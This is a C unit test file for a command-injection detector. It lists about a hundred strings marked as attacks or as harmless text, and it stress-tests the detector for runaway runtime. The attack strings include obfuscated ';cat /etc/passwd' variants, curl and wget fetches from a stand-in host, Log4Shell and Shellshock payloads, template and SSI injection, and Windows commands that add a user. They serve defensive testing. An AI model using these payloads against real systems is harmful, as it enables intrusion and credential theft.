/* The detector of cmdi.h: disguises, texts that look alike, bounds. */
#include "base/test.h"
#include "cmdi.h"

static const struct {
    const char *value;
    bool want;
} CASES[] = {
    {";id", true},
    {"a|id", true},
    {"x; cat /etc/passwd", true},
    {"x && ls /etc", true},
    {"x\nwget http://a.b/c", true},
    {"`id`", true},
    {"$(curl http://a.b)", true},
    {"; c'a't /etc/passwd", true},
    {"; c\\at /etc/passwd", true},
    {";cat$IFS/etc/passwd", true},
    {";{cat,/etc/passwd}", true},
    {"127.0.0.1; whoami", true},
    {"x; sudo cat /etc/passwd", true},
    {"1 & net user a b /add", true},
    {"the net; user friendly", false},
    {"`sleep 5`", true},
    {"| nslookup a.b", true},
    {"check in at 3; sleep 8 hours", false},
    {";/?\?\?/c?t /etc/passwd", true},
    {"| net user", true},
    {"| c^url http://a.b", true},
    {"& ping -n 30 127.0.0.1 &", true},
    {"/bin/ls -al", true},
    {"';system('id');'", true},
    {"() { :;}; echo x", true},
    {"<!--#exec cmd=\"ls\"-->", true},
    {"{{7*7}}", true},
    {"${jndi:ldap://a.b/c}", true},
    {"cats; dogs; find a hotel", false},
    {"Smith & Wesson | Colt", false},
    {"PHP;Python;Perl", false},
    {"ls -la shows all files", false},
    {"use `git status` to see", false},
    {"{{name}} ${name}", false},
    {"(´；ω；`)", false},
    {"time & date; host & guest", false},
    {"a&b=1", false},
    {"京都;奈良|大阪&神戸", false},
    {"127.0.0.1;hostname", true},
    {"; route", true},
    {"a|ps aux", true},
    {"x; host a.example.com", true},
    {"x|ssh root@10.0.0.1", true},
    {"&& which python", true},
    {"&& chmod 777 /tmp/x", true},
    {"1;echo vulnerable #", true},
    {"foo`cd ..`", true},
    {"|expr 123 - 4", true},
    {";/?\?\?/?\?t /?\?\?/p?\?s??", true},
    {";a=w;b=hoami;$a$b", true},
    {"\\nid\\n", true},
    {"a|reg add \"HKLM\\System\" /v a", true},
    {"netstat -an", true},
    {"; bash x.sh", true},
    {"x; dig +short a.example", true},
    {"; sleep 5 -- ", true},
    {";who$()ami", true},
    {";wh``oami", true},
    {"\".system('id').\"", true},
    {"require('child_process').exec('id')", true},
    {"${${lower:j}ndi:ldap://a.b/c}", true},
    {"<%= 7*7 %>", true},
    {"room; twin/double?", false},
    {"5/2; 5/3?", false},
    {"see fig. 3; a.system('x')", false},
    {"&copy; 2026", false},
    {"& more of it", false},
    {"| Sort by", false},
    {"Room\nDate/time is fixed", false},
    {"x\nTCP/IP is OK", false},
    {"|usr/bin/id", true},
    {"Now,\nat $300 per night", false},
    {"I see.\nIf *you* like", false},
    {"said.\n\"If ... if you", false},
    {"several hours to do `make' a second `time'", false},
    {"127.0.0.1 && hostname", true},
    {"& calc.exe", true},
    {"x; ./y", true},
    {"etc; ./", false},
    {"bus;route", false},
    {"Thank you; I'd like a room", false},
    {"Hello\nI'd like a room", false},
    {"; I'd", false},
    {"; i'd'", true},
    {"dinner\ntime\ndate", false},
    {"First;Last", false},
    {"x\nID", false},
    {"x\nid", true},
    {"dog;cat", false},
    {"cat;", false},
    {"the host; mail me@example.com", false},
    {"which one; timeout 5 minutes", false},
    {"the amount;$a", false},
    {"C:\\notes\\radio", false},
    {"(;w;) &amp; (;o;)", false},
    {"", false},
};

static void test_cases(void **state)
{
    (void)state;
    for (size_t i = 0; i < sizeof(CASES) / sizeof(CASES[0]); i++) {
        cmdi_found_t f = {.fingerprint = "untouched"};
        slice_t v = slice_make(CASES[i].value, strlen(CASES[i].value));
        bool found = cmdi_detect(v, &f);
        if (found != CASES[i].want) {
            fail_msg("%s: %s", CASES[i].value, found ? f.fingerprint : "not found");
        }
        if (!found) {
            assert_string_equal(f.fingerprint, "untouched");
            continue;
        }
        assert_true(cmdi_detect(v, NULL) && cmdi_possible(bytes_seen(v), v.len));
        assert_true(f.len && f.at < v.len && f.len <= v.len - f.at);
    }
}

static void test_hostile_shapes(void **state)
{
    (void)state;
    static const char *const SHAPES[] = {
        ";", "|",  "&",      "`",  "$(", "${",       "{{", "../", "%25", "%2e", "0x2e", "/",   "\\",
        ".", "<(", "; $IFS", "a;", "'",  "\xC0\xAE", "\n", " ",   "\n(", "\r ", "`id ", "$(id"};
    enum { SIZE = 1 << 18 }; /* what is not linear does not come to an end here */
    char *text = malloc(SIZE);
    assert_non_null(text);
    for (size_t i = 0; i < sizeof(SHAPES) / sizeof(SHAPES[0]); i++) {
        size_t len = strlen(SHAPES[i]), n = 0;
        for (; n + len <= SIZE; n += len) {
            memcpy(text + n, SHAPES[i], len);
        }
        text[n - 1] = 'a';
        (void)cmdi_detect(slice_make(text, n), NULL);
    }
    free(text);
}

int main(void)
{
    const struct CMUnitTest tests[] = {cmocka_unit_test(test_cases),
                                       cmocka_unit_test(test_hostile_shapes)};
    return cmocka_run_group_tests(tests, NULL, NULL);
}
